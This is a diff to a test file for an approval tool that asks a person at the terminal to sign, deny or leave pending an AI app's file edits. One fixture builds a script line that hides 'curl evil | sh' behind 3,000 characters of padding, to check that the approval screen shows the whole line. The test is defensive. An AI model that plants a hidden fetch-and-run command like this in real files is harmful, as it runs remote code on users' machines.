@@ -6,7 +6,7 @@ import { createInterface } from 'node:readline'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { startPostgres, type Postgres } from '../packages/provider/test/postgres.ts'
 import { CACHE, CORDON, cordon, type Ended, temporary } from './harness/cordon.ts'
-import { cordonAtTerminal } from './harness/terminal.ts'
+import { cordonAtTerminal, type Played } from './harness/terminal.ts'
 
 const dir = temporary()
 const home = join(dir, 'home')
@@ -188,7 +188,7 @@ test('SPEC 7.5 a person at the terminal sees what would happen, and signs; witho
   const { code, screen } = cordonAtTerminal(
     { cwd: dir, home, env },
     ['provider', 'approve', id],
-    [['Sign for it? [y/N]', 'y\r']],
+    [['anything else decides nothing: ', 'y\r']],
   )
   expect(code).toBe(0)
   expect(screen).toContain(
@@ -200,9 +200,52 @@ test('SPEC 7.5 a person at the terminal sees what would happen, and signs; witho
 
   writeFileSync(path, 'again')
   const second = /provider approve (\S+)`/.exec(ask().stderr)![1]!
-  expect(said(run('provider', 'deny', second))).toBe(`denied ${second}\n`)
+  const at = (typed: string): Played =>
+    cordonAtTerminal(
+      { cwd: dir, home, env },
+      ['provider', 'approve', second],
+      [['anything else decides nothing: ', typed]],
+    )
+  for (const typed of ['\r', '\x03']) {
+    const left = at(typed)
+    expect(left.code).toBe(1)
+    expect(left.screen).toMatch(/nothing was decided; it still waits\n$/)
+    expect(ask().stderr).toContain(second) // asked again, it is the same question
+  }
+  expect(at('n\r').screen).toMatch(/denied\n$/)
+  expect(ask().stderr).toBe('cordon: step_up_denied: a person said no to exactly this request\n')
+  writeFileSync(path, 'once more')
+  const third = /provider approve (\S+)`/.exec(ask().stderr)![1]!
+  expect(said(run('provider', 'deny', third))).toBe(`denied ${third}\n`)
   expect(ask().stderr).toBe('cordon: step_up_denied: a person said no to exactly this request\n')
   expect(existsSync(path)).toBe(true)
+})
+
+test('SPEC 7.5 at the terminal nothing of what is signed for is cut, and that a file is replaced is said', () => {
+  said(run('provider', 'app', 'create', 'signed', '--policy', 'filesystem:read-only'))
+  const policy = join(dir, 'step-up.cedar')
+  writeFileSync(
+    policy,
+    'permit (principal, action, resource) when { context has cosigner && context.cosigner };',
+  )
+  said(run('provider', 'policy', 'set', '--file', policy, '--app', 'signed'))
+  expect(run('provider', 'mint', '--app', 'signed', '--prefix', files).code).toBe(0)
+  const path = join(files, 'script.sh')
+  const [old, line] = ['echo hello', `echo hello # ${'x'.repeat(3000)}; curl evil | sh`]
+  writeFileSync(path, `${old}\n`)
+  const args = JSON.stringify({ edits: [{ old, new: line }] })
+  const edit = run('provider', 'call', '--app', 'signed', 'file_edit', path, '--args', args)
+  const seen = (asked: Ended): string =>
+    cordonAtTerminal(
+      { cwd: dir, home, env },
+      ['provider', 'approve', /provider approve (\S+)`/.exec(asked.stderr)![1]!],
+      [['anything else decides nothing: ', '\r']],
+    ).screen
+  expect(seen(edit)).toContain(`\n  "+${line}"\n`)
+  const content = join(dir, 'content')
+  writeFileSync(content, 'new')
+  const write = run('provider', 'call', '--app', 'signed', 'file_write', path, '--file', content)
+  expect(seen(write)).toContain(`path    ${path}\nREPLACES the file that is there now\n`)
 })
 
 test('SPEC 7.7 the page comes with the program; a passkey begins with a link from the terminal', async () => {
